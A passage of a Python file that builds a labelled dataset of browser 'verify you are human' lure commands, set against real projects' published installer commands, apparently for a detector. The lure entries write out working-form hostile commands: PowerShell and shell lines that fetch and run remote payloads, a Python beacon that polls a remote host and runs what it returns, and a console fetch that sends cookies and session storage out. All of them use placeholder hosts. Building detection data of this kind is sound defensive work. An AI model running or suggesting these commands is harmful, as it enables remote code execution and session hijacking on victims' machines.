    'powershell -w h -c "iwr https://docs.invoice-view.invalid/Invoice_5521.pdf -OutFile $env:TEMP\\Invoice_5521.pdf.exe; Start-Process $env:TEMP\\Invoice_5521.pdf.exe"',
)
lure(
    "ps-set-location-webdav-run",
    RUN,
    "https://www.winter-market.example/",
    'powershell -w h -c "Set-Location \\\\dav.share-point.test@SSL\\DavWWWRoot; .\\verify.ps1"  '
    + TAILS[14],
)
lure(
    "ps-start-process-unc-exe",
    RUN,
    "https://www.tapas-bar-madrid.example/",
    'powershell -w h -c "Start-Process \\\\198.51.100.19\\pub\\Verificador.exe"  ' + TAILS[4],
)
lure(
    "ps-new-psdrive-webdav",
    RUN,
    "https://www.organ-recitals.example/",
    'powershell -w h -c "New-PSDrive -Name V -PSProvider FileSystem -Root \\\\files.verify-dav.invalid@SSL\\DavWWWRoot | Out-Null; & V:\\check.exe"  '
    + TAILS[1],
)
lure(
    "cmd-echo-ps1-then-run",
    RUN,
    "https://www.museum-of-clocks.example/",
    'cmd /c "echo iex(irm https://e.stage-ps1.test/s) > %TEMP%\\v.ps1 & powershell -ep bypass -w h -f %TEMP%\\v.ps1"  '
    + TAILS[2],
)
lure(
    "ps-mshta-from-powershell",
    RUN,
    "https://www.street-food-fest.example/",
    "powershell -w h -c \"mshta.exe 'https://hta.verify-window.invalid/c'\"  " + TAILS[13],
)
lure(
    "ps-invoke-webrequest-bitsadmin-free-zip-lnk",
    RUN,
    "https://www.archery-range.example/",
    'powershell -w h -c "iwr https://z.lnk-drop.test/doc.zip -OutFile $env:TEMP\\d.zip; Expand-Archive $env:TEMP\\d.zip $env:TEMP\\d -Force; ii $env:TEMP\\d\\Document.lnk"  '
    + TAILS[15],
)
lure(
    "ps-webclient-uploadstring-then-run",
    RUN,
    "https://www.canal-boat-hire.example/",
    "powershell -w h -c \"$w=New-Object Net.WebClient;iex $w.UploadString('https://reg.bot-check.invalid/next','id='+$env:COMPUTERNAME)\"  "
    + TAILS[0],
)
_SCPT = 'do shell script "curl -fsSL https://os.stage-scpt.test/m | sh"'
mac(
    "macos-b64-osascript",
    "https://www.glassblowing-studio.example/",
    f"echo '{b64(_SCPT)}' | base64 -d | osascript",
)
mac(
    "macos-perl-lwp-eval",
    "https://www.cider-mill.example/",
    "perl -MLWP::Simple -e 'eval get(\"https://pl.mac-helper.invalid/p\")'  # Verify you are human",
)
mac(
    "macos-unzip-p-pipe",
    "https://www.lacrosse-league.example/",
    "curl -s https://zp.mac-stage.test/p.zip -o /tmp/p.zip && unzip -p /tmp/p.zip | zsh",
)
mac(
    "macos-xz-pipe-sh",
    "https://www.violin-repair.example/",
    "curl -fsSL https://xz.update-stage.invalid/a.xz | xz -d | bash",
)
nix(
    "linux-curl-config-stdin",
    "https://www.curling-club.example/",
    "curl -sK- <<< 'url = \"https://cfg.curl-stage.test/s\"' | sh",
)
nix(
    "linux-gpg-decrypt-pipe",
    "https://www.harbour-pilots.example/",
    "curl -s https://gpg.enc-stage.invalid/p.gpg | gpg -d --batch --passphrase 4471 2>/dev/null | bash",
)
nix(
    "linux-openssl-aes-pipe",
    "https://www.moth-survey.example/",
    "curl -s https://aes.enc-drop.test/p.bin | openssl enc -d -aes-256-cbc -pbkdf2 -k verify2214 | sh",
)
nix(
    "linux-tar-stdout-pipe",
    "https://www.tram-enthusiasts.example/",
    "curl -s https://tg.tar-stage.invalid/p.tgz | tar -xzO | bash",
)
nix(
    "linux-python-reverse-http-beacon",
    "https://support.vps-helpdesk.test/ticket/2291",
    "nohup python3 -c \"import time,urllib.request as u,subprocess as s\nwhile 1:\n s.run(u.urlopen('https://bc.poll-stage.invalid/c').read(),shell=True);time.sleep(30)\" >/dev/null 2>&1 &",
)
con(
    "console-fetch-keepalive-exfil",
    "https://amazon-giftcard-check.invalid/",
    "fetch('https://gc.balance-check.test/b',{method:'POST',keepalive:true,body:document.cookie+'|'+JSON.stringify(sessionStorage)})",
)
con(
    "console-eval-remote-json-field",
    "https://spotify-premium-free.test/",
    "fetch('https://sp.premium-gen.invalid/api').then(r=>r.json()).then(j=>eval(j.code))",
)

# ----------------------------------------------------------------------------------------------
# Benign texts: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------
# The command as the project publishes it, with the page it is published on.

OWN_PAGES = [
    # shell pipes from the project's own domain
    ("https://dprint.dev/install/", "curl -fsSL https://dprint.dev/install.sh | sh"),
    ("https://dprint.dev/install/", "iwr https://dprint.dev/install.ps1 -useb | iex"),
    (
        "https://github.com/ducaale/xh",
        "curl -sfL https://raw.githubusercontent.com/ducaale/xh/master/install.sh | sh",
    ),
    (
        "https://github.com/ducaale/xh",
        "iwr -useb https://raw.githubusercontent.com/ducaale/xh/master/install.ps1 | iex",
    ),
    (
        "https://github.com/terraform-linters/tflint",
        "curl -s https://raw.githubusercontent.com/terraform-linters/tflint/master/install_linux.sh | bash",
    ),
    (
        "https://github.com/aquasecurity/tfsec",
        "curl -s https://raw.githubusercontent.com/aquasecurity/tfsec/master/scripts/install_linux.sh | bash",
    ),
    (
        "https://github.com/anchore/syft",
        "curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin",
    ),
    (
        "https://github.com/cantino/mcfly",
        "curl -LSfs https://raw.githubusercontent.com/cantino/mcfly/master/ci/install.sh | sh -s -- --git cantino/mcfly",
    ),
    (
        "https://github.com/denisidoro/navi",
        "bash <(curl -sL https://raw.githubusercontent.com/denisidoro/navi/master/scripts/install)",
    ),
    (
        "https://github.com/nektos/act",
        "curl --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/nektos/act/master/install.sh | sudo bash",
    ),
    (
        "https://github.com/air-verse/air",
        "curl -sSfL https://raw.githubusercontent.com/air-verse/air/master/install.sh | sh -s -- -b $(go env GOPATH)/bin",
    ),
    (
        "https://github.com/pressly/goose",
        "curl -fsSL https://raw.githubusercontent.com/pressly/goose/master/install.sh | sh",
    ),
    (
        "https://github.com/Bearer/bearer",
        "curl -sfL https://raw.githubusercontent.com/Bearer/bearer/main/contrib/install.sh | sh",
    ),
    (
        "https://github.com/ZupIT/horusec",
        "curl -fsSL https://raw.githubusercontent.com/ZupIT/horusec/main/deployments/scripts/install.sh | bash -s latest",
    ),
    (
        "https://github.com/arduino/arduino-cli",
        "curl -fsSL https://raw.githubusercontent.com/arduino/arduino-cli/master/install.sh | sh",
    ),
    (
        "https://github.com/WasmEdge/WasmEdge",
        "curl -sSf https://raw.githubusercontent.com/WasmEdge/WasmEdge/master/utils/install.sh | bash",
    ),
    (
        "https://rustwasm.github.io/wasm-pack/installer/",
        "curl https://rustwasm.github.io/wasm-pack/installer/init.sh -sSf | sh",
    ),
    (
        "https://nexte.st/docs/installation/pre-built-binaries/",
        "curl -LsSf https://get.nexte.st/latest/linux | tar zxf - -C ${CARGO_HOME:-~/.cargo}/bin",
    ),
    (
        "https://github.com/axodotdev/cargo-dist",
        "curl --proto '=https' --tlsv1.2 -LsSf https://github.com/axodotdev/cargo-dist/releases/latest/download/cargo-dist-installer.sh | sh",
    ),
    (
        "https://github.com/axodotdev/cargo-dist",
        'powershell -ExecutionPolicy Bypass -c "irm https://github.com/axodotdev/cargo-dist/releases/latest/download/cargo-dist-installer.ps1 | iex"',
    ),
    (
        "https://probe.rs/docs/getting-started/installation/",
        "curl --proto '=https' --tlsv1.2 -LsSf https://github.com/probe-rs/probe-rs/releases/latest/download/probe-rs-tools-installer.sh | sh",
    ),
    (
        "https://probe.rs/docs/getting-started/installation/",
        'powershell -ExecutionPolicy Bypass -c "irm https://github.com/probe-rs/probe-rs/releases/latest/download/probe-rs-tools-installer.ps1 | iex"',
    ),
    (
        "https://www.edgedb.com/install",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.edgedb.com | sh",
    ),
    ("https://www.edgedb.com/install", "iwr https://ps1.edgedb.com -useb | iex"),
    (
        "https://github.com/dolthub/dolt",
        "sudo bash -c 'curl -L https://github.com/dolthub/dolt/releases/latest/download/install.sh | bash'",
    ),
    ("https://duckdb.org/docs/installation/", "curl https://install.duckdb.org | sh"),
    (
        "https://github.com/openobserve/openobserve",
        "curl -L https://raw.githubusercontent.com/openobserve/openobserve/main/download.sh | sh",
    ),
    (
        "https://docs.garden.io/getting-started/installing-garden",
        "curl -sL https://get.garden.io/install.sh | bash",
    ),
    ("https://docs.openfaas.com/cli/install/", "curl -sSL https://cli.openfaas.com | sudo -E sh"),
    ("https://github.com/alexellis/arkade", "curl -sLS https://get.arkade.dev | sudo sh"),
    ("https://github.com/alexellis/k3sup", "curl -sLS https://get.k3sup.dev | sh"),
    ("https://github.com/kubesphere/kubekey", "curl -sfL https://get-kk.kubesphere.io | sh -"),
    (
        "https://chaos-mesh.org/docs/quick-start/",
        "curl -sSL https://mirrors.chaos-mesh.org/v2.6.3/install.sh | bash",
    ),
    ("https://github.com/kubeshark/kubeshark", "sh <(curl -Ls https://kubeshark.co/install)"),
    ("https://docs.livekit.io/home/self-hosting/local/", "curl -sSL https://get.livekit.io | bash"),
    ("https://docs.livekit.io/home/cli/cli-setup/", "curl -sSL https://get.livekit.io/cli | bash"),
    (
        "https://github.com/mondoohq/cnspec",
        'bash -c "$(curl -sSL https://install.mondoo.com/sh/cnspec)"',
    ),
    (
        "https://github.com/mondoohq/cnspec",
        "Set-ExecutionPolicy Unrestricted -Scope Process -Force;\n[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072;\niex ((New-Object System.Net.WebClient).DownloadString('https://install.mondoo.com/ps1/cnquery'));\nInstall-Mondoo -Product cnspec;",
    ),
    ("https://docs.trunk.io/references/cli/installation", "curl https://get.trunk.io -fsSL | bash"),
    ("https://please.build/quickstart.html", "curl https://get.please.build | bash"),
    ("https://www.jbang.dev/download/", "curl -Ls https://sh.jbang.dev | bash -s - app setup"),
    ("https://www.jbang.dev/download/", 'iex "& { $(iwr -useb https://ps.jbang.dev) } app setup"'),
    (
        "https://github.com/shyiko/jabba",
        "curl -sL https://github.com/shyiko/jabba/raw/master/install.sh | bash && . ~/.jabba/jabba.sh",
    ),
    (
        "https://github.com/moovweb/gvm",
        "bash < <(curl -s -S -L https://raw.githubusercontent.com/moovweb/gvm/master/binscripts/gvm-installer)",
    ),
    ("https://github.com/stefanmaric/g", "curl -sSL https://git.io/g-install | sh -s"),
    (
        "https://github.com/cashapp/hermit",
        "curl -fsSL https://github.com/cashapp/hermit/releases/download/stable/install.sh | /bin/bash",
    ),
    ("https://docs.haskellstack.org/en/stable/", "curl -sSL https://get.haskellstack.org/ | sh"),
    ("https://github.com/schollz/croc", "curl https://getcroc.schollz.com | bash"),
    ("https://github.com/nextdns/nextdns/wiki", 'sh -c "$(curl -sL https://nextdns.io/install)"'),
    (
        "https://github.com/Jigsaw-Code/outline-server",
        'sudo bash -c "$(wget -qO- https://raw.githubusercontent.com/Jigsaw-Code/outline-server/master/src/server_manager/install_scripts/install_server.sh)"',
    ),
    (
        "https://github.com/Nyr/openvpn-install",
        "wget https://git.io/vpn -O openvpn-install.sh && bash openvpn-install.sh",
    ),
    (
        "https://github.com/Nyr/wireguard-install",
        "wget https://git.io/wireguard -O wireguard-install.sh && bash wireguard-install.sh",
    ),
    (
        "https://github.com/angristan/openvpn-install",
        "curl -O https://raw.githubusercontent.com/angristan/openvpn-install/master/openvpn-install.sh\nchmod +x openvpn-install.sh\n./openvpn-install.sh",
    ),
    (
        "https://github.com/angristan/wireguard-install",
        "curl -O https://raw.githubusercontent.com/angristan/wireguard-install/master/wireguard-install.sh\nchmod +x wireguard-install.sh\n./wireguard-install.sh",
    ),
    (
        "https://github.com/MHSanaei/3x-ui",
        "bash <(curl -Ls https://raw.githubusercontent.com/mhsanaei/3x-ui/master/install.sh)",
    ),
    (
        "https://v2.hysteria.network/docs/getting-started/Installation/",
        "bash <(curl -fsSL https://get.hy2.sh/)",
    ),
    (
        "https://github.com/v2fly/fhs-install-v2ray",
        "bash <(curl -L https://raw.githubusercontent.com/v2fly/fhs-install-v2ray/master/install-release.sh)",
    ),
    (
        "https://1panel.pro/docs/installation/online_installation/",
        "curl -sSL https://resource.fit2cloud.com/1panel/package/quick_start.sh -o quick_start.sh && sudo bash quick_start.sh",
    ),
    (
        "https://cyberpanel.net/KnowledgeBase/home/install-cyberpanel/",
        "sh <(curl https://cyberpanel.net/install.sh || wget -O - https://cyberpanel.net/install.sh)",
    ),
    (
        "https://www.ispconfig.org/documentation/",
        "wget -O - https://get.ispconfig.org | sh -s -- --help",
    ),
    (
        "https://docs.plesk.com/en-US/obsidian/deployment-guide/plesk-installation-and-upgrade-on-single-server/quick-installation.76444/",
        "sh <(curl https://autoinstall.plesk.com/one-click-installer || wget -O - https://autoinstall.plesk.com/one-click-installer)",
    ),
    (
        "https://docs.cpanel.net/installation-guide/install/",
        "cd /home && curl -o latest -L https://securedownloads.cpanel.net/latest && sh latest",
    ),
    (
        "https://github.com/louislam/dockge",
        "mkdir -p /opt/stacks /opt/dockge\ncd /opt/dockge\ncurl https://raw.githubusercontent.com/louislam/dockge/master/compose.yaml --output compose.yaml\ndocker compose up -d",
    ),
    (
        "https://github.com/PostHog/posthog",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/posthog/posthog/HEAD/bin/deploy-hobby)"',
    ),
    (
        "https://github.com/nocodb/nocodb",
        "bash <(curl -sSL http://install.nocodb.com/noco.sh) <(mktemp)",
    ),
    (
        "https://github.com/laurent22/joplin",
        "wget -O - https://raw.githubusercontent.com/laurent22/joplin/dev/Joplin_install_and_update.sh | bash",
    ),
    (
        "https://github.com/Botspot/pi-apps",
        "wget -qO- https://raw.githubusercontent.com/Botspot/pi-apps/master/install | bash",
    ),
    (
        "https://linuxgsm.com/servers/csgoserver/",
        "curl -Lo linuxgsm.sh https://linuxgsm.sh && chmod +x linuxgsm.sh && bash linuxgsm.sh csgoserver",
    ),
    (
        "https://docs.platformio.org/en/latest/core/installation/methods/installer-script.html",
        "curl -fsSL -o get-platformio.py https://raw.githubusercontent.com/platformio/platformio-core-installer/master/get-platformio.py\npython3 get-platformio.py",
    ),
    (
        "https://github.com/wimpysworld/deb-get",
        "curl -sL https://raw.githubusercontent.com/wimpysworld/deb-get/main/deb-get | sudo -E bash -s install deb-get",
    ),
    (
        "https://github.com/zyedidia/eget",
        "curl -o eget.sh https://zyedidia.github.io/eget.sh\nshasum -a 256 eget.sh # verify with hash below\nbash eget.sh",
    ),
    ("https://spacevim.org/quick-start-guide/", "curl -sLf https://spacevim.org/install.sh | bash"),
    (
        "https://github.com/romkatv/zsh4humans",
        'if command -v curl >/dev/null 2>&1; then\n  sh -c "$(curl -fsSL https://raw.githubusercontent.com/romkatv/zsh4humans/v5/install)"\nelse\n  sh -c "$(wget -O- https://raw.githubusercontent.com/romkatv/zsh4humans/v5/install)"\nfi',
    ),
    (
        "https://iterm2.com/documentation-shell-integration.html",
        "curl -L https://iterm2.com/shell_integration/install_shell_integration_and_utilities.sh | bash",
    ),
    ("https://github.com/bbatsov/prelude", "curl -L https://git.io/epre | sh"),
    ("https://plandex.ai/", "curl -sL https://plandex.ai/install.sh | bash"),
    (
        "https://docs.factory.ai/cli/getting-started/quickstart",
        "curl -fsSL https://app.factory.ai/cli | sh",
    ),
    (
        "https://huggingface.co/docs/huggingface_hub/guides/cli",
        "curl -LsSf https://hf.co/cli/install.sh | bash",
    ),
    (
        "https://huggingface.co/docs/huggingface_hub/guides/cli",
        'powershell -ExecutionPolicy ByPass -c "irm https://hf.co/cli/install.ps1 | iex"',
    ),
    ("https://github.com/containers/ramalama", "curl -fsSL https://ramalama.ai/install.sh | bash"),
    (
        "https://github.com/danielmiessler/Fabric",
        "go install github.com/danielmiessler/fabric/cmd/fabric@latest",
    ),
    (
        "https://www.shuttle.dev/docs/getting-started/installation",
        "curl -sSfL https://www.shuttle.dev/install | bash",
    ),
    (
        "https://www.shuttle.dev/docs/getting-started/installation",
        "iwr https://www.shuttle.dev/install-win | iex",
    ),
    (
        "https://aptos.dev/build/cli/install-cli/install-cli-linux",
        'curl -fsSL "https://aptos.dev/scripts/install_cli.py" | python3',
    ),
    ("https://docs.fuel.network/guides/installation/", "curl https://install.fuel.network | sh"),
    (
        "https://docs.swmansion.com/scarb/download.html",
        "curl --proto '=https' --tlsv1.2 -sSf https://docs.swmansion.com/scarb/install.sh | sh",
    ),
    (
        "https://github.com/foundry-rs/starknet-foundry",
        "curl -L https://raw.githubusercontent.com/foundry-rs/starknet-foundry/master/scripts/install.sh | sh",
    ),
    (
        "https://github.com/ava-labs/avalanche-cli",
        "curl -sSfL https://raw.githubusercontent.com/ava-labs/avalanche-cli/main/scripts/install.sh | sh -s",
    ),
    (
        "https://noir-lang.org/docs/getting_started/noir_installation",
        "curl -L https://raw.githubusercontent.com/noir-lang/noirup/refs/heads/main/install | bash",
    ),
    ("https://dev.risczero.com/api/zkvm/install", "curl -L https://risczero.com/install | bash"),
    (
        "https://docs.succinct.xyz/docs/sp1/getting-started/install",
        "curl -L https://sp1up.succinct.xyz | bash",
    ),
    ("https://docs.huff.sh/get-started/installing/", "curl -L get.huff.sh | bash"),
    (
        "https://docs.aztec.network/developers/getting_started",
        "bash -i <(curl -s https://install.aztec.network)",
    ),
    ("https://docs.ignite.com/welcome/install", "curl https://get.ignite.com/cli! | bash"),
    (
        "https://www.anchor-lang.com/docs/installation",
        "cargo install --git https://github.com/coral-xyz/anchor avm --force",
    ),
    (
        "https://docs.sui.io/guides/developer/getting-started/sui-install",
        "cargo install --locked --git https://github.com/MystenLabs/sui.git --branch testnet sui --features tracing",
    ),
    (
        "https://github.com/neovide/neovide",
        "cargo install --git https://github.com/neovide/neovide",
    ),
    (
        "https://yazi-rs.github.io/docs/installation/",
        "cargo install --locked --git https://github.com/sxyazi/yazi.git yazi-fm yazi-cli",
    ),
    (
        "https://jj-vcs.github.io/jj/latest/install-and-setup/",
        "cargo install --git https://github.com/jj-vcs/jj.git --locked --bin jj jj-cli",
    ),
    ("https://github.com/openai/whisper", "pip install git+https://github.com/openai/whisper.git"),
    (
        "https://github.com/facebookresearch/segment-anything",
        "pip install git+https://github.com/facebookresearch/segment-anything.git",
    ),
    ("https://github.com/openai/CLIP", "pip install git+https://github.com/openai/CLIP.git"),
    (
        "https://github.com/m-bain/whisperX",
        "pip install git+https://github.com/m-bain/whisperx.git",
    ),
    (
        "https://www.netexec.wiki/getting-started/installation/installation-on-unix",
        "pipx install git+https://github.com/Pennyw0rth/NetExec",
    ),
    ("https://github.com/simonw/llm", "pipx install llm"),
    ("https://github.com/charmbracelet/crush", "brew install charmbracelet/tap/crush"),
    ("https://github.com/charmbracelet/crush", "npm install -g @charmland/crush"),
    ("https://github.com/QwenLM/qwen-code", "npm install -g @qwen-code/qwen-code@latest"),
    # go install
    (
        "https://templ.guide/quick-start/installation",
        "go install github.com/a-h/templ/cmd/templ@latest",
    ),
    (
        "https://docs.sqlc.dev/en/latest/overview/install.html",
        "go install github.com/sqlc-dev/sqlc/cmd/sqlc@latest",
    ),
    (
        "https://github.com/golang-migrate/migrate/tree/master/cmd/migrate",
        "go install -tags 'postgres' github.com/golang-migrate/migrate/v4/cmd/migrate@latest",
    ),
    (
        "https://github.com/go-delve/delve/tree/master/Documentation/installation",
        "go install github.com/go-delve/delve/cmd/dlv@latest",
    ),
    (
        "https://staticcheck.dev/docs/getting-started/",
        "go install honnef.co/go/tools/cmd/staticcheck@latest",
    ),
    (
        "https://go.dev/doc/tutorial/govulncheck",
        "go install golang.org/x/vuln/cmd/govulncheck@latest",
    ),
    ("https://goreleaser.com/install/", "go install github.com/goreleaser/goreleaser/v2@latest"),
    ("https://goreleaser.com/install/", "brew install --cask goreleaser/tap/goreleaser"),
    ("https://github.com/spf13/cobra-cli", "go install github.com/spf13/cobra-cli@latest"),
    (
        "https://wails.io/docs/gettingstarted/installation",
        "go install github.com/wailsapp/wails/v2/cmd/wails@latest",
    ),
    ("https://github.com/swaggo/swag", "go install github.com/swaggo/swag/cmd/swag@latest"),
    ("https://ko.build/install/", "go install github.com/google/ko@latest"),
    (
        "https://github.com/gokcehan/lf",
        'env CGO_ENABLED=0 go install -ldflags="-s -w" github.com/gokcehan/lf@latest',
    ),
    ("https://github.com/dundee/gdu", "go install github.com/dundee/gdu/v5/cmd/gdu@latest"),
    ("https://github.com/gotestyourself/gotestsum", "go install gotest.tools/gotestsum@latest"),
    ("https://github.com/OJ/gobuster", "go install github.com/OJ/gobuster/v3@latest"),
    # cargo install from crates.io, as the READMEs say
    ("https://github.com/sharkdp/hyperfine", "cargo install --locked hyperfine"),
    ("https://github.com/XAMPPRocky/tokei", "cargo install --locked tokei"),
    ("https://github.com/Canop/broot", "cargo install --locked broot"),
    ("https://github.com/ClementTsang/bottom", "cargo install bottom --locked"),
    ("https://github.com/eza-community/eza", "cargo install eza"),
    ("https://github.com/bootandy/dust", "cargo install du-dust"),
    ("https://github.com/rust-lang/mdBook", "cargo install mdbook"),
    ("https://github.com/ekzhang/bore", "cargo install bore-cli"),
    ("https://github.com/rossmacarthur/sheldon", "cargo install sheldon --locked"),
    # npm / npx scaffolders
    ("https://nextjs.org/docs/app/getting-started/installation", "npx create-next-app@latest"),
    ("https://create.t3.gg/en/installation", "npm create t3-app@latest"),
    ("https://docs.astro.build/en/install-and-setup/", "npm create astro@latest"),
    ("https://svelte.dev/docs/kit/creating-a-project", "npx sv create my-app"),
    ("https://nuxt.com/docs/getting-started/installation", "npm create nuxt@latest <project-name>"),
    ("https://angular.dev/installation", "npm install -g @angular/cli"),
    ("https://docs.expo.dev/get-started/create-a-project/", "npx create-expo-app@latest"),
    ("https://www.electronforge.io/", "npx create-electron-app@latest my-app"),
    ("https://docusaurus.io/docs/installation", "npx create-docusaurus@latest my-website classic"),
    ("https://storybook.js.org/docs/get-started/install", "npm create storybook@latest"),
    ("https://playwright.dev/docs/intro", "npm init playwright@latest"),
    ("https://ui.shadcn.com/docs/installation/next", "npx shadcn@latest init"),
    ("https://hono.dev/docs/getting-started/basic", "npm create hono@latest"),
    ("https://elysiajs.com/quick-start.html", "bun create elysia app"),
    ("https://qwik.dev/docs/getting-started/", "npm create qwik@latest"),
    ("https://turborepo.com/docs/getting-started/installation", "npx create-turbo@latest"),
    ("https://nx.dev/getting-started/intro", "npx create-nx-workspace@latest"),
    ("https://strapi.io/", "npx create-strapi@latest my-project"),
    ("https://payloadcms.com/docs/getting-started/installation", "npx create-payload-app"),
    (
        "https://docs.medusajs.com/learn/installation",
        "npx create-medusa-app@latest my-medusa-store",
    ),
    ("https://slidev.dev/guide/", "npm init slidev@latest"),
    ("https://vitepress.dev/guide/getting-started", "npx vitepress init"),
    ("https://oxc.rs/docs/guide/usage/linter.html", "npx oxlint@latest"),
    ("https://www.artillery.io/docs/get-started/get-artillery", "npm install -g artillery@latest"),
    ("https://github.com/sindresorhus/pure", "npm install --global pure-prompt"),
    # Homebrew formulae and taps
    (
        "https://nikitabobko.github.io/AeroSpace/guide",
        "brew install --cask nikitabobko/tap/aerospace",
    ),
    (
        "https://github.com/koekeishiya/yabai/wiki/Installing-yabai-(latest-release)",
        "brew install koekeishiya/formulae/yabai",
    ),
    (
        "https://felixkratz.github.io/SketchyBar/setup",
        "brew tap FelixKratz/formulae\nbrew install sketchybar",
    ),
    (
        "https://supabase.com/docs/guides/local-development/cli/getting-started",
        "brew install supabase/tap/supabase",
    ),
    (
        "https://planetscale.com/docs/concepts/planetscale-environment-setup",
        "brew install planetscale/tap/pscale",
    ),
    ("https://k9scli.io/topics/install/", "brew install derailed/k9s/k9s"),
    ("https://buf.build/docs/cli/installation/", "brew install bufbuild/buf/buf"),
    ("https://graphite.dev/docs/install-the-cli", "brew install withgraphite/tap/graphite"),
    ("https://github.com/xo/usql", "brew install xo/xo/usql"),
    ("https://min.io/docs/minio/macos/index.html", "brew install minio/stable/minio"),
    ("https://render.com/docs/cli", "brew install render"),
    ("https://tart.run/quick-start/", "brew install cirruslabs/cli/tart"),
    (
        "https://docs.localstack.cloud/getting-started/installation/",
        "brew install localstack/tap/localstack-cli",
    ),
    ("https://knative.dev/docs/client/install-kn/", "brew install knative/client/kn"),
    ("https://www.cloudquery.io/docs/quickstart/macOS", "brew install cloudquery/tap/cloudquery"),
    ("https://github.com/charmbracelet/gum", "brew install gum"),
    ("https://github.com/abiosoft/colima", "brew install colima"),
    ("https://orbstack.dev/download", "brew install orbstack"),
    ("https://k6.io/docs/get-started/installation/", "brew install k6"),
    # release assets: .deb, .rpm, tarballs, single binaries
    (
        "https://github.com/derailed/k9s",
        "wget https://github.com/derailed/k9s/releases/latest/download/k9s_linux_amd64.deb && sudo apt install ./k9s_linux_amd64.deb && rm k9s_linux_amd64.deb",
    ),
    (
        "https://github.com/mikefarah/yq",
        "wget https://github.com/mikefarah/yq/releases/latest/download/yq_linux_amd64 -O /usr/local/bin/yq &&\\\n    chmod +x /usr/local/bin/yq",
    ),
    (
        "https://github.com/ClementTsang/bottom",
        "curl -LO https://github.com/ClementTsang/bottom/releases/download/0.10.2/bottom_0.10.2-1_amd64.deb\nsudo dpkg -i bottom_0.10.2-1_amd64.deb",
    ),
    (
        "https://github.com/sharkdp/fd",
        "wget https://github.com/sharkdp/fd/releases/download/v10.2.0/fd_10.2.0_amd64.deb\nsudo dpkg -i fd_10.2.0_amd64.deb",
    ),
    (
        "https://github.com/dandavison/delta",
        "wget https://github.com/dandavison/delta/releases/download/0.18.2/git-delta_0.18.2_amd64.deb && sudo dpkg -i git-delta_0.18.2_amd64.deb",
    ),
    (
        "https://github.com/wagoodman/dive",
        'DIVE_VERSION=$(curl -sL "https://api.github.com/repos/wagoodman/dive/releases/latest" | grep \'"tag_name":\' | sed -E \'s/.*"v([^"]+)".*/\\1/\')\ncurl -fOL "https://github.com/wagoodman/dive/releases/download/v${DIVE_VERSION}/dive_${DIVE_VERSION}_linux_amd64.deb"\nsudo apt install ./dive_${DIVE_VERSION}_linux_amd64.deb',
    ),
    (
        "https://github.com/hadolint/hadolint",
        "wget -O /bin/hadolint https://github.com/hadolint/hadolint/releases/download/v2.12.0/hadolint-Linux-x86_64 && chmod +x /bin/hadolint",
    ),
    (
        "https://github.com/bcicen/ctop",
        "sudo wget https://github.com/bcicen/ctop/releases/download/v0.7.7/ctop-0.7.7-linux-amd64 -O /usr/local/bin/ctop\nsudo chmod +x /usr/local/bin/ctop",
    ),
    (
        "https://github.com/muesli/duf",
        "wget https://github.com/muesli/duf/releases/download/v0.8.1/duf_0.8.1_linux_amd64.deb && sudo dpkg -i duf_0.8.1_linux_amd64.deb",
    ),
    (
        "https://github.com/jgm/pandoc/releases/tag/3.6",
        "wget https://github.com/jgm/pandoc/releases/download/3.6/pandoc-3.6-1-amd64.deb && sudo dpkg -i pandoc-3.6-1-amd64.deb",
    ),
    (
        "https://github.com/replicate/cog",
        'sudo curl -o /usr/local/bin/cog -L "https://github.com/replicate/cog/releases/latest/download/cog_$(uname -s)_$(uname -m)"\nsudo chmod +x /usr/local/bin/cog',
    ),
    (
        "https://devpod.sh/docs/getting-started/install",
        'curl -L -o devpod "https://github.com/loft-sh/devpod/releases/latest/download/devpod-linux-amd64" && sudo install -c -m 0755 devpod /usr/local/bin && rm -f devpod',
    ),
    (
        "https://min.io/docs/minio/linux/index.html",
        "wget https://dl.min.io/server/minio/release/linux-amd64/minio\nchmod +x minio\nsudo mv minio /usr/local/bin/",
    ),
    (
        "https://github.com/tenable/terrascan",
        'curl -L "$(curl -s https://api.github.com/repos/tenable/terrascan/releases/latest | grep -o -E "https://.+?_Darwin_x86_64.tar.gz")" > terrascan.tar.gz\ntar -xf terrascan.tar.gz terrascan && rm terrascan.tar.gz\ninstall terrascan /usr/local/bin && rm terrascan',
    ),
    (
        "https://docs.fedoraproject.org/en-US/epel/getting-started/",
        "sudo dnf install https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm",
    ),
    (
        "https://rpmfusion.org/Configuration",
        "sudo dnf install https://mirrors.rpmfusion.org/free/fedora/rpmfusion-free-release-$(rpm -E %fedora).noarch.rpm https://mirrors.rpmfusion.org/nonfree/fedora/rpmfusion-nonfree-release-$(rpm -E %fedora).noarch.rpm",
    ),
    (
        "https://rpms.remirepo.net/wizard/",
        "dnf install https://rpms.remirepo.net/enterprise/remi-release-9.rpm",
    ),
    (
        "https://docs.percona.com/percona-software-repositories/installing.html",
        "sudo yum install https://repo.percona.com/yum/percona-release-latest.noarch.rpm",
    ),
    # Kubernetes manifests from the project's releases
    (
        "https://metallb.io/installation/",
        "kubectl apply -f https://raw.githubusercontent.com/metallb/metallb/v0.14.9/config/manifests/metallb-native.yaml",
    ),
    (
        "https://github.com/kubernetes-sigs/metrics-server",
        "kubectl apply -f https://github.com/kubernetes-sigs/metrics-server/releases/latest/download/components.yaml",
    ),
    (
        "https://github.com/flannel-io/flannel",
        "kubectl apply -f https://github.com/flannel-io/flannel/releases/latest/download/kube-flannel.yml",
    ),
    (
        "https://docs.tigera.io/calico/latest/getting-started/kubernetes/quickstart",
        "kubectl create -f https://raw.githubusercontent.com/projectcalico/calico/v3.29.1/manifests/tigera-operator.yaml",
    ),
    (
        "https://longhorn.io/docs/1.7.2/deploy/install/install-with-kubectl/",
        "kubectl apply -f https://raw.githubusercontent.com/longhorn/longhorn/v1.7.2/deploy/longhorn.yaml",
    ),
    (
        "https://tekton.dev/docs/installation/pipelines/",
        "kubectl apply --filename https://storage.googleapis.com/tekton-releases/pipeline/latest/release.yaml",
    ),
    (
